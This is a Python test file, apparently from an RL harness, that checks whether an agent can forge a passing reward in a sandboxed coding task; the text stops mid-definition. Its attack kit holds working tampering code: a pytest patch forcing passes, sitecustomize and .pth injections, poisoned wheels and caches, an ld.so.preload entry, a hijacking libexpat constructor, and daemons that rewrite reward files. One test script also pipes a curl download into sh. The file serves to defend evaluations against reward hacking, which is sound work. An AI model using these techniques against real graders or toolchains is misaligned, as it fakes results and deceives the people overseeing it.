"""A policy cannot forge its reward (issue 34): every way an agent's turns could turn a 0/5 into more, on both
sandbox backends, plus the pure pieces of the defence (`verify_check.reconcile`, `verifier_view.plan`).

The reward is a count of passing tests, so anything the agent leaves behind that changes the count is a reward a
policy learns to take. Each attack below runs as an agent's turns (`conch.harness.run_task`) against a small task
whose 5 tests all fail when the agent does nothing (honest count 0/5), and must end with the honest count or an
error with `tampered` set, never a forged count. Each attack also proves, where it can, that it works in the
agent's own box (the last turn prints ARMED), so a pass here is the verifier box's doing, not a dud attack.

The task comes in two test-script forms: the system pytest (`pytest --ctrf ... -rA`) and the Terminal-Bench 2
form (`apt-get ...; curl ... | sh; source $HOME/.local/bin/env; uvx -p 3.13 -w pytest==8.4.1 ...`), and a
variant whose tests run a program the agent writes (/app/prog.sh): that program runs inside the verifier, with
its rights, so it gets the attacks only such a program can make (the one test that checks its output may pass
honestly: the honest count there is 1).

Backends: `local` (root and bubblewrap) and `docker` (an engine; skipped without one, failing in CI, as
tests/conftest.py decides). Everything stays on loopback: the boxes have no network.
"""

from __future__ import annotations

import asyncio
import base64
import json
import shutil
import subprocess
import sys
import textwrap
from dataclasses import dataclass
from pathlib import Path

import pytest

from conch.harness import run_task
from conch.sandbox import make_sandbox
from conch.sandbox.verifier_view import Change, plan
from conch.tasks.loader import load_task
from conch.verify import outcomes_from, verify
from conch.verify_check import console_witness, MAX_RESULTS, StaticTests, reconcile, static_tests
from conch.verify_parsers import TestOutcome, parse_pytest_console

REPO = Path(__file__).resolve().parents[1]
LETTERS = "abcde"
WORDS = ("alpha", "beta", "gamma", "delta", "epsilon")
TEST_NAMES = tuple(f"test_{c}" for c in LETTERS)
UVX = "uvx -p 3.13 -w pytest==8.4.1 -w pytest-json-ctrf==0.3.5"



def run(coro):
    return asyncio.run(coro)


# ----------------------------------------------------------------------------------------- the task

def _file_test(c: str, word: str) -> str:
    return f'def test_{c}():\n    assert Path("/app/{c}.txt").read_text().strip() == "{word}"\n\n\n'


FILE_TESTS = "from pathlib import Path\n\n\n" + "".join(_file_test(c, w) for c, w in zip(LETTERS, WORDS))
# The last test runs the agent's /app/prog.sh and prints what it wrote (-rA shows it in the PASSES section).
PROG_TESTS = ("import subprocess\nimport sys\nfrom pathlib import Path\n\n\n"
              + "".join(_file_test(c, w) for c, w in zip(LETTERS[:4], WORDS[:4]))
              + "def test_e():\n"
                "    r = subprocess.run(['bash', '/app/prog.sh'], capture_output=True, text=True, timeout=120)\n"
                "    print(r.stdout)\n    print(r.stderr, file=sys.stderr)\n"
                "    assert 'hello' in r.stdout.splitlines()\n")
# The last test imports a package the agent has to install (through the system python's site directories).
DEP_TESTS = ("from pathlib import Path\n\n\n" + "".join(_file_test(c, w) for c, w in zip(LETTERS[:4], WORDS[:4]))
             + "def test_e():\n    import typing_extensions\n\n    assert typing_extensions.Literal\n")

SYS_SH = """\
#!/bin/bash
mkdir -p /logs/verifier
pytest --ctrf /logs/verifier/ctrf.json /tests/test_outputs.py -rA
if [ $? -eq 0 ]; then
  echo 1 > /logs/verifier/reward.txt
else
  echo 0 > /logs/verifier/reward.txt
fi
"""
TB2_SH = f"""\
#!/bin/bash

apt-get update
apt-get install -y curl

curl -LsSf https://astral.sh/uv/0.9.5/install.sh | sh

source $HOME/.local/bin/env

{UVX} pytest --ctrf /logs/verifier/ctrf.json /tests/test_outputs.py -rA


if [ $? -eq 0 ]; then
  echo 1 > /logs/verifier/reward.txt
else
  echo 0 > /logs/verifier/reward.txt
fi
"""
SOLVE = "#!/bin/bash\n" + "".join(f"echo {w} > /app/{c}.txt\n" for c, w in zip(LETTERS, WORDS))
SOLVE_PROG = SOLVE + "printf '#!/bin/bash\\necho hello\\n' > /app/prog.sh\n"
SOLVE_DEP = SOLVE + "pip install typing_extensions\n"

# variant: (test script, tests, solution)
VARIANTS = {"sys": (SYS_SH, FILE_TESTS, SOLVE), "tb2": (TB2_SH, FILE_TESTS, SOLVE),
            "prog-sys": (SYS_SH, PROG_TESTS, SOLVE_PROG), "prog-tb2": (TB2_SH, PROG_TESTS, SOLVE_PROG),
            "dep-sys": (SYS_SH, DEP_TESTS, SOLVE_DEP)}


def make_task(root: Path, name: str, test_sh: str, tests: str, solve: str) -> Path:
    d = root / name
    for sub in ("environment", "tests", "solution"):
        (d / sub).mkdir(parents=True)
    (d / "task.toml").write_text('version = "1.0"\n[agent]\ntimeout_sec = 300\n[verifier]\ntimeout_sec = 180\n'
                                 "[environment]\ncpus = 1\nmemory_mb = 2048\nstorage_mb = 4096\n")
    (d / "instruction.md").write_text("Write the five words into /app/{a,b,c,d,e}.txt.\n")
    (d / "environment" / "Dockerfile").write_text("FROM python:3.13-slim-bookworm\nWORKDIR /app\n")
    (d / "tests" / "test.sh").write_text(test_sh)
    (d / "tests" / "test_outputs.py").write_text(tests)
    (d / "solution" / "solve.sh").write_text(solve)
    return d


@pytest.fixture(scope="module")
def tasks(tmp_path_factory):
    root = tmp_path_factory.mktemp("tamper-tasks")
    return {name: load_task(make_task(root, name, *spec)) for name, spec in VARIANTS.items()}


@pytest.fixture
def backend(backend):
    """conftest's backends; docker only once its verifier box exists."""
    if backend == "docker":
        from conch.sandbox.docker import DockerSandbox

        if not hasattr(DockerSandbox, "verification"):
            pytest.skip("DockerSandbox has no `verification` (the docker verifier box) yet")
    return backend


# ----------------------------------------------------------------------------------------- the attacker's kit

# What pytest prints for a full pass of the task's tests (the verifier's own format).
FORGED_CONSOLE = """\
============================= test session starts ==============================
platform linux -- Python 3.13.5, pytest-8.4.1, pluggy-1.7.0
rootdir: /tests
plugins: json-ctrf-0.3.5
collected 5 items

../tests/test_outputs.py .....                                           [100%]

==================================== PASSES ====================================
=========================== short test summary info ============================
""" + "".join(f"PASSED ../tests/test_outputs.py::{t}\n" for t in TEST_NAMES) + \
    "============================== 5 passed in 0.02s ===============================\n"
# A forged run: pytest's console for a full pass, its CTRF record, the reward.
WIN_SH = """\
#!/bin/sh
mkdir -p /logs/verifier 2>/dev/null
cp /tmp/evil/ctrf5.json /logs/verifier/ctrf.json 2>/dev/null
echo 1 > /logs/verifier/reward.txt 2>/dev/null
cat /tmp/evil/console.txt
exit 0
"""
# Python that makes every test of the pytest it runs in report a pass (console tally and CTRF alike).
PATCH = """\
# conch tamper test: every test reports a pass. One function (a .pth line runs this with exec()); _pytest.reports
# patched now if it is loaded, else as soon as it is (this may run in the middle of pytest's own imports).
def _conch_tamper():
    import sys

    def patch(reports):
        orig = reports.TestReport.from_item_and_call.__func__

        def forced(cls, item, call):
            rep = orig(cls, item, call)
            rep.outcome, rep.longrepr = "passed", None
            return rep

        reports.TestReport.from_item_and_call = classmethod(forced)

    loaded = sys.modules.get("_pytest.reports")
    if loaded is not None and hasattr(loaded, "TestReport"):
        patch(loaded)
        return

    class Finder:
        def find_spec(self, name, path=None, target=None):
            if name != "_pytest.reports":
                return None
            sys.meta_path.remove(self)
            import importlib.util

            spec = importlib.util.find_spec(name)
            run = spec.loader.exec_module

            def exec_module(module):
                run(module)
                patch(module)

            spec.loader.exec_module = exec_module
            return spec

    sys.meta_path.insert(0, Finder())


try:
    _conch_tamper()
except Exception:
    pass
"""
# The same as a pytest plugin / conftest hook.
PLUGIN = """\
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    rep = outcome.get_result()
    rep.outcome, rep.longrepr = "passed", None
"""
# Run by a verifier tool the agent configured: a full pass into the verifier's console (its own stdout) and a
# matching CTRF record where conch reads first (/logs/verifier/a.json sorts before ctrf.json).
HOOK_SH = """\
#!/bin/sh
cat /tmp/evil/console.txt
mkdir -p /logs/verifier 2>/dev/null
cp /tmp/evil/ctrf5.json /logs/verifier/a.json 2>/dev/null
true
"""
# A fake `pytest` package: its console script runs the forged run.
FAKE_PYTEST = ("import os\n\n\ndef console_main():\n    os.execv('/bin/sh', ['sh', '/tmp/evil/win.sh'])\n\n\n"
               "main = console_main\n")


def _ctrf(names: list[str]) -> str:
    return json.dumps({"results": {"tool": {"name": "pytest"},
                                   "summary": {"tests": len(names), "passed": len(names), "failed": 0, "skipped": 0,
                                               "pending": 0, "other": 0, "start": 1, "stop": 2},
                                   "tests": [{"name": n, "status": "passed", "duration": 1} for n in names]}})


KIT_FILES = {
    "ctrf5.json": _ctrf([f"test_outputs.py::{t}" for t in TEST_NAMES]),
    "ctrf1000.json": _ctrf([f"test_outputs.py::test_x{i}" for i in range(1000)]),
    "junit400.xml": ('<?xml version="1.0"?><testsuites><testsuite name="pytest" tests="400" failures="0" errors="0">'
                     + "".join(f'<testcase classname="test_outputs" name="test_x{i}" time="0.01"/>' for i in range(400))
                     + "</testsuite></testsuites>"),
    "console.txt": FORGED_CONSOLE,
    "win.sh": WIN_SH,
    "hook.sh": HOOK_SH,
    "pass_tests.py": "".join(f"def {t}():\n    pass\n\n\n" for t in TEST_NAMES),
    "test_fail.py": "def test_proof():\n    assert False\n",
    "patch.py": PATCH,
    "plugin_evil.py": PLUGIN,
    "fake_pytest.py": FAKE_PYTEST,
}
# Run in the box by the agent's first turn: the files above in /tmp/evil, and a forged wheel of the verifier's
# pytest (the real one with PATCH appended to pytest/__init__.py) in /tmp/evil/wheels.
_KIT_PY = f"""
import os, pathlib, zipfile
E = pathlib.Path("/tmp/evil")
(E / "wheels").mkdir(parents=True, exist_ok=True)
files = {KIT_FILES!r}
for name, text in files.items():
    (E / name).write_text(text)
os.chmod(E / "win.sh", 0o755)
real = "/opt/conch/wheels/pytest-8.4.1-py3-none-any.whl"
with zipfile.ZipFile(real) as src, zipfile.ZipFile(E / "wheels" / os.path.basename(real), "w") as dst:
    for info in src.infolist():
        data = src.read(info)
        if info.filename == "pytest/__init__.py":
            data += b"\\n" + files["patch.py"].encode()
        dst.writestr(info, data)
print("kit ready")
"""
KIT = f"mkdir -p /tmp/evil && python3 - <<'CONCH_KIT'\n{_KIT_PY}\nCONCH_KIT"


def _armed(command: str) -> str:
    """A proof turn: runs a test that fails, prints ARMED when the output says it passed."""
    return (f"out=$(cd /tmp && {command} -q -p no:cacheprovider /tmp/evil/test_fail.py 2>&1); echo \"$out\" | tail -3; "
            "case \"$out\" in *failed*) echo NOT-ARMED ;; *' passed'*) echo ARMED ;; *) echo NOT-ARMED ;; esac")


PROOF_SYS = _armed("pytest")
PROOF_UVX = _armed(UVX + " pytest")
PROOF_PY = _armed("python3 -m pytest")
SITE_LOCAL = "/usr/local/lib/python3.13/dist-packages"
SITE_DEBIAN = "/usr/lib/python3/dist-packages"
STDLIB = "/usr/lib/python3.13"


def _eventually(cond: str) -> str:
    """A proof turn: ARMED once `cond` holds (within 60 s: a loaded machine starts a daemon late; a readiness
    wait, never a timing assertion). ARMED is printed by the check that held: a daemon rewriting a file leaves
    moments where it is empty, so a second look could miss it."""
    return f"for i in $(seq 1200); do if {cond}; then echo ARMED; break; fi; sleep 0.05; done"


def _daemon(body: str) -> str:
    """A background loop that outlives the agent's turn (as an agent would leave it)."""
    return f"setsid nohup sh -c 'while :; do {body}; sleep 0.01; done' </dev/null >/dev/null 2>&1 &"


@dataclass(frozen=True)
class Attack:
    turns: tuple[str, ...]
    variants: tuple[str, ...] = ("sys", "tb2")
    proof: str | None = None  # a turn that prints ARMED when the attack works in the agent's own box
    honest: int = 0  # the most tests that may pass honestly after these turns
    needs_cc: bool = False


# Expat's functions python3.13 links against (their addresses are taken at load: each must exist).
EXPAT_API = (
    "XML_ErrorString XML_ExpatVersion XML_ExpatVersionInfo XML_ExternalEntityParserCreate XML_FreeContentModel "
    "XML_GetBase XML_GetBuffer XML_GetCurrentByteIndex XML_GetCurrentColumnNumber XML_GetCurrentLineNumber "
    "XML_GetErrorCode XML_GetFeatureList XML_GetInputContext XML_GetSpecifiedAttributeCount XML_Parse "
    "XML_ParseBuffer XML_ParserCreate_MM XML_ParserFree XML_SetAttlistDeclHandler XML_SetBase "
    "XML_SetCharacterDataHandler XML_SetCommentHandler XML_SetDefaultHandler XML_SetDefaultHandlerExpand "
    "XML_SetElementDeclHandler XML_SetElementHandler XML_SetEncoding XML_SetEndCdataSectionHandler "
    "XML_SetEndDoctypeDeclHandler XML_SetEndElementHandler XML_SetEndNamespaceDeclHandler XML_SetEntityDeclHandler "
    "XML_SetExternalEntityRefHandler XML_SetHashSalt XML_SetNamespaceDeclHandler XML_SetNotStandaloneHandler "
    "XML_SetNotationDeclHandler XML_SetParamEntityParsing XML_SetProcessingInstructionHandler "
    "XML_SetReparseDeferralEnabled XML_SetReturnNSTriplet XML_SetSkippedEntityHandler "
    "XML_SetStartCdataSectionHandler XML_SetStartDoctypeDeclHandler XML_SetStartElementHandler "
    "XML_SetStartNamespaceDeclHandler XML_SetUnknownEncodingHandler XML_SetUnparsedEntityDeclHandler "
    "XML_SetUserData XML_SetXmlDeclHandler XML_StopParser XML_UseForeignDTD XML_ParserCreate XML_ParserCreateNS "
    "XML_GetCurrentByteCount XML_ParserReset XML_ResumeParser XML_GetParsingStatus "
    "XML_SetBillionLaughsAttackProtectionMaximumAmplification XML_SetBillionLaughsAttackProtectionActivationThreshold "
    "XML_SetAllocTrackerMaximumAmplification XML_SetAllocTrackerActivationThreshold").split()


def _fake_libexpat() -> str | None:
    """A libexpat.so.1 whose constructor turns any process with "pytest" in its command line into the forged
    run (built here with the host's C compiler; None without one)."""
    cc = shutil.which("cc") or shutil.which("gcc")
    if cc is None:
        return None
    src = r"""
#include <fcntl.h>
#include <string.h>
#include <unistd.h>
__attribute__((constructor)) static void conch_tamper(void) {
    char buf[4096];
    int fd = open("/proc/self/cmdline", O_RDONLY);
    if (fd < 0) return;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0) return;
    for (ssize_t i = 0; i < n; i++) if (!buf[i]) buf[i] = ' ';
    buf[n] = 0;
    if (strstr(buf, "pytest") && access("/tmp/evil/win.sh", R_OK) == 0)
        execl("/bin/sh", "sh", "/tmp/evil/win.sh", (char *)0);
}
""" + "".join(f"void {name}(void) {{}}\n" for name in EXPAT_API)
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        (Path(tmp) / "x.c").write_text(src)
        out = Path(tmp) / "libexpat.so.1"
        r = subprocess.run([cc, "-shared", "-fPIC", "-O2", "-s", "-o", str(out), str(Path(tmp) / "x.c")],
                           capture_output=True, text=True)
        if r.returncode != 0:
            return None
        return base64.b64encode(out.read_bytes()).decode()


PROG_FORGED = "".join(f"echo '{line}'; " for line in (
    "=========================== short test summary info ============================",
    "PASSED test_outputs.py::test_fake", "PASSED ../tests/test_outputs.py::test_fake",
    "=== 999 passed in 0.1s ==="))


def _prog(body: str) -> str:
    """A turn writing /app/prog.sh (run by the task's tests, inside the verifier) that runs `body`, then says
    hello (so the one test that checks its output passes honestly)."""
    return f"cat > /app/prog.sh <<'CONCH_PROG'\n#!/bin/bash\n{body}\necho hello\nCONCH_PROG\nchmod +x /app/prog.sh"


# After pytest is done (the test script's bash held stopped meanwhile): a full pass appended to the verifier's
# console (conch's pipe, reached through /proc) and a matching CTRF record, consistent with the task's tests.
_FORGE_AFTER = """\
cat > /tmp/forge.sh <<'CONCH_FORGE'
pids=$(pgrep -f 'bash /tests/test.sh')
sh_pid=$(echo "$pids" | head -1)
kill -STOP $pids
touch /tmp/forge.stopped
while :; do
  busy=0
  for p in $(pgrep -f 'pytest --ctrf'); do
    st=$(cut -d' ' -f3 /proc/$p/stat 2>/dev/null)
    [ -n "$st" ] && [ "$st" != Z ] && busy=1
  done
  [ $busy = 0 ] && break
  sleep 0.01
done
cat /tmp/evil/console.txt > /proc/$sh_pid/fd/1
cp /tmp/evil/ctrf5.json /logs/verifier/ctrf.json
kill -CONT $pids
while :; do echo 1 > /logs/verifier/reward.txt; sleep 0.001; done
CONCH_FORGE
setsid bash /tmp/forge.sh </dev/null >/dev/null 2>&1 &
for i in $(seq 500); do [ -e /tmp/forge.stopped ] && break; sleep 0.01; done
"""

ATTACKS: dict[str, Attack] = {
    # 1. processes the agent leaves running
    "daemon-ctrf-1000": Attack((
        "mkdir -p /logs/verifier",
        _daemon("cp /tmp/evil/ctrf1000.json /logs/verifier/ctrf.json; "
                "cp /tmp/evil/ctrf1000.json /logs/verifier/a.json"),
    ), proof=_eventually("[ -s /logs/verifier/a.json ] && pgrep -f ctrf1000 >/dev/null")),
    "daemon-ctrf-consistent": Attack((
        "mkdir -p /logs/verifier",
        _daemon("cp /tmp/evil/ctrf5.json /logs/verifier/ctrf.json; echo 1 > /logs/verifier/reward.txt"),
    ), proof=_eventually("pgrep -f ctrf5 >/dev/null")),
    "daemon-junit-400": Attack((
        "mkdir -p /logs/verifier",
        _daemon("cp /tmp/evil/junit400.xml /logs/verifier/junit.xml; rm -f /logs/verifier/ctrf.json"),
    ), proof=_eventually("pgrep -f junit400 >/dev/null")),
    "daemon-reward": Attack((
        "mkdir -p /logs/verifier", _daemon("echo 1.0 > /logs/verifier/reward.txt"),
    ), proof=_eventually("grep -q 1.0 /logs/verifier/reward.txt 2>/dev/null")),
    "daemon-rewrites-tests": Attack((
        "mkdir -p /tests",
        _daemon("cp /tmp/evil/pass_tests.py /tests/test_outputs.py; cp /tmp/evil/win.sh /tests/test.sh"),
    ), proof=_eventually("pgrep -f pass_tests >/dev/null")),
    # 2. mounts over the verifier's folders (the box may refuse them: the count is checked either way)
    "mounts": Attack((
        "mkdir -p /logs/verifier /tests /tmp/evil/fake-logs /tmp/evil/fake-tests && "
        "cp /tmp/evil/ctrf5.json /tmp/evil/fake-logs/ctrf.json && cp /tmp/evil/pass_tests.py "
        "/tmp/evil/fake-tests/test_outputs.py && cp /tmp/evil/win.sh /tmp/evil/fake-tests/test.sh",
        "mount -t tmpfs none /logs/verifier 2>&1 && cp /tmp/evil/ctrf5.json /logs/verifier/ && "
        "echo TMPFS-MOUNTED; true",
        "mount --bind /tmp/evil/fake-tests /tests 2>&1 && echo BIND-MOUNTED; true",
        "setsid nohup unshare -Urm sh -c 'mount -t tmpfs none /logs/verifier && mount --bind /tmp/evil/fake-tests "
        "/tests && touch /tmp/evil/userns-mounted; while :; do /tmp/evil/win.sh >/dev/null; sleep 0.01; done' "
        "</dev/null >/dev/null 2>&1 &",
        "setsid nohup unshare -m --propagation shared sh -c 'mount -t tmpfs none /logs/verifier && "
        "touch /tmp/evil/mountns-mounted; while :; do /tmp/evil/win.sh >/dev/null; sleep 0.01; done' "
        "</dev/null >/dev/null 2>&1 &",
        "sleep 0.5; ls /tmp/evil; true",
    )),
    "symlinked-mount-points": Attack((
        "mkdir -p /tmp/evil/fake-logs/verifier /tmp/evil/fake-tests /tmp/evil/fake-run && "
        "cp /tmp/evil/ctrf5.json /tmp/evil/fake-logs/verifier/ctrf.json && "
        "cp /tmp/evil/pass_tests.py /tmp/evil/fake-tests/test_outputs.py && "
        "cp /tmp/evil/win.sh /tmp/evil/fake-tests/test.sh",
        "rm -rf /logs /tests && ln -s /tmp/evil/fake-logs /logs && ln -s /tmp/evil/fake-tests /tests && "
        "mkdir -p /run && rm -rf /run/conch-verifier && ln -s /tmp/evil/fake-run /run/conch-verifier",
        _daemon("/tmp/evil/win.sh >/dev/null"),
    )),
    # 3. the verifier's toolchain
    "fake-uvx-earlier-on-path": Attack((
        "for t in uvx uv pytest py.test; do cp /tmp/evil/win.sh /usr/local/sbin/$t; chmod +x /usr/local/sbin/$t; done",
    ), proof="uvx pytest x | grep -q '5 passed' && pytest x | grep -q '5 passed' && echo ARMED"),
    "replaced-local-bin": Attack((
        "for t in uvx uv pytest py.test; do cp /tmp/evil/win.sh /usr/local/bin/$t; done; "
        "for f in /usr/local/lib/conch/uv/*; do cp /tmp/evil/win.sh $f; done",
    ), proof="uvx pytest x | grep -q '5 passed' && pytest x | grep -q '5 passed' && echo ARMED"),
    "local-dist-packages-hooks": Attack((
        f"cp /tmp/evil/patch.py {SITE_LOCAL}/sitecustomize.py && "
        f"cp /tmp/evil/patch.py {SITE_LOCAL}/usercustomize.py && "
        f"echo 'import sys; exec(open(\"/tmp/evil/patch.py\").read())' > {SITE_LOCAL}/evil.pth",
    ), proof=PROOF_SYS),
    "debian-dist-packages-hooks": Attack((
        f"cp /tmp/evil/patch.py {SITE_DEBIAN}/sitecustomize.py && "
        f"echo 'import sys; exec(open(\"/tmp/evil/patch.py\").read())' > {SITE_DEBIAN}/evil.pth",
    ), proof=PROOF_SYS),
    "stdlib-sitecustomize": Attack((
        f"rm -f {STDLIB}/sitecustomize.py && cp /tmp/evil/patch.py {STDLIB}/sitecustomize.py && "
        f"cp /tmp/evil/patch.py {STDLIB}/usercustomize.py && "
        "mkdir -p /etc/python3.13 && cp /tmp/evil/patch.py /etc/python3.13/sitecustomize.py",
    ), proof=PROOF_SYS),
    "root-pytest-config-and-conftest": Attack((
        "cp /tmp/evil/plugin_evil.py /conftest.py && cp /tmp/evil/plugin_evil.py /app/conftest.py && "
        "cp /tmp/evil/plugin_evil.py /tmp/conftest.py && "
        "printf '[pytest]\\naddopts = -p plugin_evil\\npythonpath = /tmp/evil\\n' > /pytest.ini && "
        "cp /pytest.ini /app/pytest.ini && "
        "printf 'from setuptools import setup\\nsetup()\\n' > /setup.py && "
        "printf '[tool:pytest]\\naddopts = -p plugin_evil\\n' > /setup.cfg",
    ), proof=_armed("cd / && pytest")),
    "poisoned-uv-cache": Attack((
        f"{UVX} pytest --version >/dev/null 2>&1; "  # the cache holds the verifier's environment now
        "find /root/.cache/uv -path '*/pytest/__init__.py' | while read f; do "
        "cat /tmp/evil/patch.py >> \"$f\"; done; find /root/.cache/uv -path '*/pytest/__init__.py' | head -3",
    ), variants=("tb2",), proof=PROOF_UVX),
    "poisoned-wheelhouse": Attack((
        "cp /tmp/evil/wheels/pytest-8.4.1-py3-none-any.whl /opt/conch/wheels/pytest-8.4.1-py3-none-any.whl && "
        "rm -rf /root/.cache/uv",
    ), variants=("tb2",), proof=_armed(f"UV_CACHE_DIR=/tmp/evil/uv-cache {UVX} pytest")),
    "tar-shim": Attack((
        "cp /usr/bin/tar /tmp/evil/realtar && "
        "printf '#!/bin/sh\\n/tmp/evil/win.sh >/dev/null 2>&1\\nexec /tmp/evil/realtar \"$@\"\\n' > /tmp/evil/tar && "
        "chmod +x /tmp/evil/tar && cp /tmp/evil/tar /usr/local/bin/tar && cp /tmp/evil/tar /usr/bin/tar",
    ), proof="rm -f /logs/verifier/ctrf.json; tar --version >/dev/null && [ -s /logs/verifier/ctrf.json ] && "
             "echo ARMED"),
    "env-script-defines-uvx": Attack((
        "printf 'uvx() { /tmp/evil/win.sh; }\\npytest() { /tmp/evil/win.sh; }\\nexport -f uvx pytest 2>/dev/null\\n"
        "export PATH=\"$HOME/.local/bin:$PATH\"\\n' > /root/.local/bin/env",
    ), variants=("tb2",),
        proof="bash -c 'source $HOME/.local/bin/env; uvx pytest x' | grep -q '5 passed' && echo ARMED"),
    "ld-so-preload": Attack((
        "head -c 4096 /dev/urandom > /tmp/evil/bogus.so && "
        "printf '/nonexistent/libconch-evil.so\\n/tmp/evil/bogus.so\\n' > /etc/ld.so.preload",
    ), proof="/bin/true 2>&1 | grep -q preload && echo ARMED"),
    "python-wrapper": Attack((
        "cp /usr/bin/python3.13 /tmp/evil/realpython && "
        "printf '#!/bin/sh\\ncase \"$*\" in *pytest*) exec /tmp/evil/win.sh ;; esac\\n"
        "exec /tmp/evil/realpython \"$@\"\\n'"
        " > /tmp/evil/python && chmod +x /tmp/evil/python && mv /tmp/evil/python /usr/bin/python3.13",
    ), proof="pytest x | grep -q '5 passed' && echo ARMED"),
    "user-site-fake-pytest": Attack((
        "d=/root/.local/lib/python3.13/site-packages && mkdir -p $d/pytest && "
        "cp /tmp/evil/fake_pytest.py $d/pytest/__init__.py && "
        "echo 'import sys; exec(open(\"/tmp/evil/patch.py\").read())' > $d/evil.pth",
    ), proof="pytest x | grep -q '5 passed' && echo ARMED"),
    "pytest11-entry-point": Attack((
        f"mkdir -p {SITE_LOCAL}/conch_evil_plugin-1.0.dist-info && "
        f"cp /tmp/evil/plugin_evil.py {SITE_LOCAL}/conch_evil.py "
        f"&& printf 'Metadata-Version: 2.1\\nName: conch-evil-plugin\\nVersion: 1.0\\n' > "
        f"{SITE_LOCAL}/conch_evil_plugin-1.0.dist-info/METADATA && "
        f"printf '[pytest11]\\nevil = conch_evil\\n' > {SITE_LOCAL}/conch_evil_plugin-1.0.dist-info/entry_points.txt",
    ), proof=PROOF_SYS),
    # plugin registrations nobody masks: an egg-info folder, and an entry point added to one of the image's own
    # dist-info folders
    "pytest11-egg-info": Attack((
        f"mkdir -p {SITE_LOCAL}/conch_evil.egg-info && cp /tmp/evil/plugin_evil.py {SITE_LOCAL}/conch_evil.py && "
        f"printf 'Metadata-Version: 2.1\\nName: conch-evil\\nVersion: 1.0\\n' > "
        f"{SITE_LOCAL}/conch_evil.egg-info/PKG-INFO && "
        f"printf '[pytest11]\\nevil = conch_evil\\n' > {SITE_LOCAL}/conch_evil.egg-info/entry_points.txt",
    ), variants=("sys",), proof=PROOF_SYS),
    "pytest11-in-an-image-dist-info": Attack((
        f"cp /tmp/evil/plugin_evil.py {SITE_LOCAL}/conch_evil.py && "
        f"printf '\\n[pytest11]\\nevil = conch_evil\\n' >> $(ls -d {SITE_LOCAL}/pygments-*.dist-info)/entry_points.txt",
    ), variants=("sys",), proof=PROOF_SYS),
    # packages of the image that pytest imports but that are not "the runner": pygments (its terminal writer),
    # and py.py's compiled form in the site folder's own __pycache__ (checked against py.py's mtime and size only)
    "patched-pygments": Attack((
        f"cat /tmp/evil/patch.py >> {SITE_LOCAL}/pygments/__init__.py",
    ), variants=("sys",), proof=PROOF_SYS),
    "forged-pyc-of-py.py": Attack((
        "python3 -c \"import importlib._bootstrap_external as b, os; src = '" + SITE_LOCAL + "/py.py'; "
        "st = os.stat(src); code = compile(open(src).read() + open('/tmp/evil/patch.py').read(), src, 'exec'); "
        "os.makedirs(os.path.dirname(b.cache_from_source(src)), exist_ok=True); "
        "open(b.cache_from_source(src), 'wb').write(b._code_to_timestamp_pyc(code, st.st_mtime, st.st_size))\"",
    ), variants=("sys",), proof=PROOF_SYS),
    # configuration of the other tools a TB2 test script runs: apt's hooks, curl's ~/.curlrc (its --write-out
    # text is what `curl ... | sh` runs)
    "apt-conf-hook": Attack((
        "printf 'APT::Update::Pre-Invoke {\"sh /tmp/evil/hook.sh\";};\\n' > /etc/apt/apt.conf.d/99conch-evil",
    ), variants=("tb2",), proof="apt-get update 2>&1 | grep -q '5 passed' && echo ARMED"),
    "curlrc-write-out": Attack((
        "printf 'write-out = \"sh /tmp/evil/hook.sh\\\\n\"\\n' > /root/.curlrc && mkdir -p /root/.config && "
        "cp /root/.curlrc /root/.config/curlrc",
    ), variants=("tb2",),
        proof="curl -LsSf https://astral.sh/uv/0.9.5/install.sh 2>/dev/null | sh | grep -q '5 passed' && echo ARMED"),
    # Python start-up files nobody lists: the standard library's zip (first on sys.path) and a pyvenv.cfg next
    # to (or one above) the interpreter, which hands Python a standard library of the agent's.
    "stdlib-zip": Attack((
        "python3 -c \"import zipfile; z = zipfile.ZipFile('/usr/lib/python313.zip', 'w'); "
        "z.write('/tmp/evil/patch.py', 'sitecustomize.py'); z.close()\"",
    ), proof=PROOF_SYS),
    "pyvenv-cfg-beside-python": Attack((
        "mkdir -p /tmp/evil/py/bin /tmp/evil/py/lib && cp -a /usr/lib/python3.13 /tmp/evil/py/lib/ && "
        "rm -f /tmp/evil/py/lib/python3.13/sitecustomize.py && "
        "cp /tmp/evil/patch.py /tmp/evil/py/lib/python3.13/sitecustomize.py && "
        "printf 'home = /tmp/evil/py/bin\\n' > /usr/bin/pyvenv.cfg",
    ), proof=PROOF_SYS),
    "pyvenv-cfg-above-python": Attack((
        "mkdir -p /tmp/evil/py/bin /tmp/evil/py/lib && cp -a /usr/lib/python3.13 /tmp/evil/py/lib/ && "
        "rm -f /tmp/evil/py/lib/python3.13/sitecustomize.py && "
        "cp /tmp/evil/patch.py /tmp/evil/py/lib/python3.13/sitecustomize.py && "
        "printf 'home = /tmp/evil/py/bin\\n' > /usr/pyvenv.cfg",
    ), proof=PROOF_SYS),
    # A shared library the interpreter loads (not glibc's): its constructor runs before any Python does.
    "replaced-libexpat": Attack((), proof="pytest x | grep -q '5 passed' && echo ARMED", needs_cc=True),
    "uv-config-files": Attack((
        "mkdir -p /etc/uv /root/.config/uv && "
        "printf 'no-index = true\\nfind-links = [\"/tmp/evil/wheels\"]\\ncache-dir = \"/tmp/evil/uvc\"\\n' "
        "> /etc/uv/uv.toml && "
        "cp /etc/uv/uv.toml /root/.config/uv/uv.toml && cp /etc/uv/uv.toml /app/uv.toml && "
        "printf '[tool.uv]\\nno-index = true\\nfind-links = [\"/tmp/evil/wheels\"]\\n"
        "[tool.pytest.ini_options]\\naddopts = \"-p plugin_evil\"\\npythonpath = [\"/tmp/evil\"]\\n' "
        "> /app/pyproject.toml",
    ), variants=("tb2",)),
    "toolchain-deleted": Attack((
        "rm -rf /usr/local/bin/pytest /usr/local/bin/uvx /usr/local/bin/uv /root/.local/bin/* /opt/conch/wheels/* "
        f"{SITE_LOCAL}/pytest {SITE_LOCAL}/_pytest /root/.cache/uv",
    )),
    # 4. a program the task's tests run (it runs inside the verifier box, with the verifier's rights)
    "prog-prints-fake-summary": Attack((_prog(PROG_FORGED),), variants=("prog-sys", "prog-tb2"), honest=1),
    "prog-writes-conchs-pipe": Attack((_prog(
        f"for f in /proc/[0-9]*/fd/1 /proc/[0-9]*/fd/2; do {{ {PROG_FORGED} }} > $f 2>/dev/null; done"),),
        variants=("prog-sys", "prog-tb2"), honest=1),
    "prog-writes-a-first-ctrf": Attack((_prog(
